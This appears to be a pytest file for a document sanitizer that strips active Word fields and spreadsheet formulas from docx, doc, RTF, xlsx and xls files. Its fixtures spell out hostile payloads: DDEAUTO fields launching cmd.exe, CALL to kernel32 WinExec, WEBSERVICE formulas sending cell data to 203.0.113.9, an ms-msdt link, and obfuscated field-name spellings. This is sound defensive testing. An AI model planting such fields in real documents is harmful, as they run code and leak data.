"""Word fields and spreadsheet formulas that act: one list (ooxml_rules) judged alike
in .docx, .doc and RTF, and in .xlsx and .xls.  Where the format allows, the field or
formula goes and its displayed result stays; the independent judges (msodde, olevba)
must find nothing in the output."""

from __future__ import annotations

import io
from pathlib import Path

import docx
import openpyxl
import pytest
from oletools import msodde
from oletools.olevba import VBA_Parser

from sanitize.config import SanitizeConfig
from sanitize.formats import Context, ole2, ooxml, rtf
from sanitize.formats import ooxml_rules as rules
from sanitize.report import Blocked, Rebuilt
from tests.sanitize import acting_fixtures as A
from tests.sanitize import ooxml_fixtures as F

CTX = Context(SanitizeConfig())

# Instruction -> the name it must be judged as (one per acting field, in the spellings
# Word accepts: any case, leading spaces and tabs, a quoted name).
ACTING = {
    'MACROBUTTON AutoOpen "Double-click here"': "MACROBUTTON",
    "  macrobutton  Shell.Run calc": "MACROBUTTON",
    'INCLUDETEXT "\\\\\\\\203.0.113.9\\\\share\\\\a.docx"': "INCLUDETEXT",
    'IncludePicture "http://203.0.113.9/p.png" \\d': "INCLUDEPICTURE",
    'INCLUDE "C:\\\\x.doc"': "INCLUDE",
    'LINK Excel.Sheet.8 "C:\\\\a.xls" "" \\a': "LINK",
    'import "http://203.0.113.9/x.wmf"': "IMPORT",
    'DDE cmd "/c calc" A1': "DDE",
    '\tDdeAuto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"': "DDEAUTO",
    '"DDEAUTO" cmd x': "DDEAUTO",
    'DATABASE \\d "C:\\\\data.mdb" \\s "select * from t"': "DATABASE",
    'PRINT "\\\\p page"': "PRINT",
    'RD "\\\\\\\\host\\\\s\\\\chapter.docx"': "RD",
    'HYPERLINK "file:///C:/Windows/System32/calc.exe"': "HYPERLINK",
    'HYPERLINK "\\\\\\\\203.0.113.9\\\\share\\\\doc.docx"': "HYPERLINK",
    'hyperlink "C:\\\\Users\\\\Public\\\\run.exe" \\o "tip"': "HYPERLINK",
    'HYPERLINK "ms-msdt:/id PCWDiagnostic"': "HYPERLINK",
}
BENIGN = [" PAGE ", 'HYPERLINK "https://www.city.example.lg.jp/"', 'HYPERLINK \\l "top"',
          'HYPERLINK "mailto:info@city.example.lg.jp"', "GOTOBUTTON top Jump", "PRINTDATE",
          'QUOTE "text"', "MERGEFIELD name", "AUTOTEXT Signature", "LINKS", "INCLUDED"]


def test_every_listed_field_says_why_it_acts() -> None:
    for name, (kind, why) in rules.ACTING_FIELDS.items():
        assert name.isupper() and kind and why
    for name, (number, why) in rules.ACTING_FUNCTIONS.items():
        assert name.isupper() and why and (number is None or number > 0)


@pytest.mark.parametrize("instr", list(ACTING))
def test_acting_instructions_are_recognised(instr: str) -> None:
    assert rules.acting_field(instr.replace("\\\\", "\\")) is not None


@pytest.mark.parametrize("instr", BENIGN)
def test_ordinary_instructions_are_not(instr: str) -> None:
    assert rules.acting_field(instr) is None


# -- .docx --------------------------------------------------------------------------------


def _docx(data: bytes) -> Rebuilt:
    out = ooxml.rebuild(data, "docx", CTX)
    ooxml.verify(out.data, out.kind, CTX)
    return out


def _judges_find_nothing(tmp_path: Path, data: bytes, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    assert msodde.process_file(str(path), msodde.FIELD_FILTER_ALL).strip() == ""
    vba = VBA_Parser(str(path))
    try:
        assert not vba.detect_vba_macros()
    finally:
        vba.close()


def _all_text(data: bytes) -> bytes:
    return b"".join(F.parts_of(data).values())


@pytest.mark.parametrize("story", ["body", "header", "footer", "footnotes", "endnotes",
                                   "comments", "textbox"])
@pytest.mark.parametrize("shape", ["split_runs", "fldSimple"])
@pytest.mark.parametrize("instr", list(ACTING))
def test_docx_acting_field_goes_and_its_result_stays(tmp_path: Path, instr: str, shape: str,
                                                     story: str) -> None:
    fragment = A.split_complex_field(instr) if shape == "split_runs" else \
        F.simple_field(instr.replace("\\\\", "\\"))
    data = A.docx_field(story, fragment)
    out = _docx(data)
    assert any(r.code.startswith("ooxml.field_") for r in out.removed)
    body = _all_text(out.data)
    assert b"instrText" not in body and b"fldSimple" not in body and b"fldChar" not in body
    assert A.CACHED.encode() in body
    if story == "body":
        assert A.CACHED in "\n".join(p.text for p in docx.Document(io.BytesIO(out.data)).paragraphs)
    _judges_find_nothing(tmp_path, out.data, "out.docx")


@pytest.mark.parametrize("instr", BENIGN)
def test_docx_ordinary_fields_stay(instr: str) -> None:
    data = F.docx_with_body(A.split_complex_field(instr) + F.simple_field(instr))
    out = _docx(data)
    assert out.removed == ()
    assert b"fldSimple" in F.parts_of(out.data)["word/document.xml"]


def test_docx_field_name_spelled_by_a_nested_field_inside_the_first_word() -> None:
    # { DD{ QUOTE "E" }AUTO cmd }: Word computes DDEAUTO.
    frag = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>DD</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>QUOTE "E"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>E</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\cmd.exe</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{A.CACHED}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    out = _docx(F.docx_with_body(frag))
    assert "ooxml.field_computed" in {r.code for r in out.removed}
    assert b"cmd.exe" not in F.parts_of(out.data)["word/document.xml"]


def test_docx_hyperlink_whose_target_a_nested_field_builds_goes() -> None:
    frag = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve">HYPERLINK "</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>DOCPROPERTY target</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:instrText>"</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{A.CACHED}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    out = _docx(F.docx_with_body(frag))
    assert "ooxml.field_hyperlink" in {r.code for r in out.removed}


# -- RTF ----------------------------------------------------------------------------------


@pytest.mark.parametrize("instr", list(ACTING))
def test_rtf_acting_field_keeps_only_its_result(tmp_path: Path, instr: str) -> None:
    data = A.rtf_field(instr.replace("\\\\", "\\"))
    out = rtf.rebuild(data, "rtf", CTX)
    rtf.verify(out.data, "rtf", CTX)
    assert any(r.code.startswith("rtf.field_") for r in out.removed)
    assert b"fldinst" not in out.data and A.CACHED.encode() in out.data
    path = tmp_path / "out.rtf"
    path.write_bytes(out.data)
    assert msodde.process_file(str(path), msodde.FIELD_FILTER_ALL).strip() == ""


@pytest.mark.parametrize("instr", BENIGN)
def test_rtf_ordinary_field_stays(instr: str) -> None:
    out = rtf.rebuild(A.rtf_field(instr), "rtf", CTX)
    rtf.verify(out.data, "rtf", CTX)
    assert out.removed == () and b"fldinst" in out.data


def test_rtf_field_name_split_across_groups() -> None:
    data = b"{\\rtf1 {\\field{\\*\\fldinst {MACRO}{BUT}{TON Run x}}{\\fldrslt {shown}}}}"
    out = rtf.rebuild(data, "rtf", CTX)
    assert [r.code for r in out.removed] == ["rtf.field_macro"] and b"shown" in out.data


# -- .doc ---------------------------------------------------------------------------------


@pytest.mark.parametrize("wide", [False, True], ids=["8bit", "utf16"])
@pytest.mark.parametrize("instr", list(ACTING))
def test_doc_acting_field_blocks(tmp_path: Path, instr: str, wide: bool) -> None:
    data = A.doc_field(instr.replace("\\\\", "\\"), wide)
    with pytest.raises(Blocked) as exc:
        ole2.rebuild(data, "doc", CTX)
    assert exc.value.reason == "macro_needs_rewrite"


@pytest.mark.parametrize("wide", [False, True], ids=["8bit", "utf16"])
@pytest.mark.parametrize("instr", BENIGN)
def test_doc_ordinary_field_passes(instr: str, wide: bool) -> None:
    out = ole2.rebuild(A.doc_field(instr, wide), "doc", CTX)
    ole2.verify(out.data, "doc", CTX)


def test_doc_field_name_spelled_by_a_nested_field_blocks() -> None:
    data = A.O.doc(text="a \x13DD\x13 QUOTE E \x14E\x15AUTO cmd \x14r\x15\r".encode("utf-16-le"))
    with pytest.raises(Blocked):
        ole2.rebuild(data, "doc", CTX)


# -- .xlsx --------------------------------------------------------------------------------

REACHING = {
    'WEBSERVICE("http://203.0.113.9/?d="&A1)': "ooxml.acting_formula",
    'FILTERXML(WEBSERVICE("http://203.0.113.9/x.xml"),"//a")': "ooxml.acting_formula",
    '_xlfn.WEBSERVICE("http://203.0.113.9/")': "ooxml.acting_formula",
    'webservice("http://203.0.113.9/")': "ooxml.acting_formula",
    'RTD("evil.server",,"topic")': "ooxml.acting_formula",
    'CALL("kernel32","WinExec","JCJ","calc",0)': "ooxml.acting_formula",
    'REGISTER.ID("kernel32","WinExec")': "ooxml.acting_formula",
    '_xlfn.IMAGE("http://203.0.113.9/p.png")': "ooxml.acting_formula",
    'HYPERLINK("\\\\203.0.113.9\\share\\x.docx","open")': "ooxml.acting_formula",
    'HYPERLINK("file:///C:/Windows/System32/calc.exe")': "ooxml.acting_formula",
    'HYPERLINK(A1,"computed")': "ooxml.acting_formula",
    "'[Book.xlsx]Sheet1'!A1": "ooxml.external_ref",
    "'C:\\path\\[x.xlsx]S'!A1+1": "ooxml.external_ref",
    "SUM('\\\\host\\share\\[y.xlsx]S'!A1:A3)": "ooxml.external_ref",
    "[1]Sheet1!A1": "ooxml.external_ref",
}
ORDINARY = ['HYPERLINK("https://www.city.example.lg.jp/","site")', 'HYPERLINK("#集計!A1","jump")',
            "SUM(Table1[Col])", "SUM(集計!B1:B2)", "'My Sheet'!A1", "SUM(Sheet1:Sheet3!A1)",
            'CONCATENATE("CALL(",1)', "MYCALL(1)", "B1*2"]


def _xlsx(data: bytes) -> Rebuilt:
    out = ooxml.rebuild(data, "xlsx", CTX)
    ooxml.verify(out.data, out.kind, CTX)
    return out


@pytest.mark.parametrize("formula", list(REACHING))
def test_xlsx_reaching_formula_keeps_its_cached_value(tmp_path: Path, formula: str) -> None:
    out = _xlsx(A.xlsx_formulas({"C3": (formula, "cached 7")}))
    assert REACHING[formula] in {r.code for r in out.removed}
    ws = openpyxl.load_workbook(io.BytesIO(out.data))["集計"]
    assert ws["C3"].value == "cached 7" and ws["B2"].value == "=B1*2"
    path = tmp_path / "out.xlsx"
    path.write_bytes(out.data)
    assert msodde.process_file(str(path)).strip() == ""
    vba = VBA_Parser(str(path))
    try:
        assert not vba.detect_vba_macros()
    finally:
        vba.close()


@pytest.mark.parametrize("formula", ORDINARY)
def test_xlsx_ordinary_formula_stays(formula: str) -> None:
    out = _xlsx(A.xlsx_formulas({"C3": (formula, "1")}))
    assert out.removed == ()
    assert openpyxl.load_workbook(io.BytesIO(out.data))["集計"]["C3"].value.startswith("=")


def test_xlsx_shared_formula_whose_master_acts_goes_from_every_cell() -> None:
    cells = {"C3": ('WEBSERVICE("http://203.0.113.9/"&A3)', "a"), "D3": ("", "b"),
             "E3": ("", "c")}
    out = _xlsx(A.xlsx_formulas(cells, shared=True))
    ws = openpyxl.load_workbook(io.BytesIO(out.data))["集計"]
    assert [ws[c].value for c in ("C3", "D3", "E3")] == ["a", "b", "c"]


def test_xlsx_function_name_hidden_behind_character_references() -> None:
    # &#87;EBSERVICE( is WEBSERVICE( once XML is decoded.
    out = _xlsx(A.xlsx_raw_formula('&#87;EBSERVICE("http://203.0.113.9/")'))
    assert "ooxml.acting_formula" in {r.code for r in out.removed}


def test_xlsx_defined_name_that_fetches_goes() -> None:
    out = _xlsx(A.xlsx_defined_name("feed", 'WEBSERVICE("http://203.0.113.9/")'))
    assert "ooxml.acting_formula" in {r.code for r in out.removed}
    assert b"WEBSERVICE" not in F.parts_of(out.data)["xl/workbook.xml"]


# -- .xls ---------------------------------------------------------------------------------

XLS_REACHING = {
    "RTD in a cell": dict(sheet_records=A.formula_record(
        A.ptg_str("evil.server") + bytes([0x16]) + A.ptg_str("t") + A.ptg_funcvar(379, 3))),
    "CALL in a defined name": dict(globals_records=A.name_record(
        "run", A.ptg_str("kernel32") + A.ptg_str("WinExec") + A.ptg_funcvar(150, 2))),
    "RTD in a shared formula": dict(sheet_records=A.O.biff(0x04BC, bytes(8) + (
        lambda rgce: len(rgce).to_bytes(2, "little") + rgce)(
        A.ptg_str("evil.server") + A.ptg_str("t") + A.ptg_funcvar(379, 2)))),
    "HYPERLINK to UNC": dict(sheet_records=A.formula_record(
        A.ptg_str("\\\\203.0.113.9\\s\\x.doc") + A.ptg_funcvar(359, 1))),
    "HYPERLINK to a cell's value": dict(sheet_records=A.formula_record(
        A.PTG_REF_A1 + A.ptg_funcvar(359, 1))),
    "WEBSERVICE as a future-function name": dict(globals_records=A.name_record(
        "_xlfn.WEBSERVICE")),
    "EXEC in a defined name": dict(globals_records=A.name_record(
        "x", A.ptg_str("calc.exe") + A.ptg_funcvar(110, 1))),
}


@pytest.mark.parametrize("case", list(XLS_REACHING))
def test_xls_reaching_formula_blocks(case: str) -> None:
    data = A.xls_with(**XLS_REACHING[case])
    with pytest.raises(Blocked) as exc:
        ole2.rebuild(data, "xls", CTX)
    assert exc.value.reason == "macro_needs_rewrite"


def test_xls_ordinary_formulas_pass() -> None:
    records = (A.formula_record(A.ptg_str("https://www.city.example.lg.jp/") + A.ptg_str("site")
                                + A.ptg_funcvar(359, 2))
               + A.formula_record(A.PTG_REF_A1 + bytes([0x41]) + (4).to_bytes(2, "little")))
    out = ole2.rebuild(A.xls_with(sheet_records=records), "xls", CTX)
    ole2.verify(out.data, "xls", CTX)
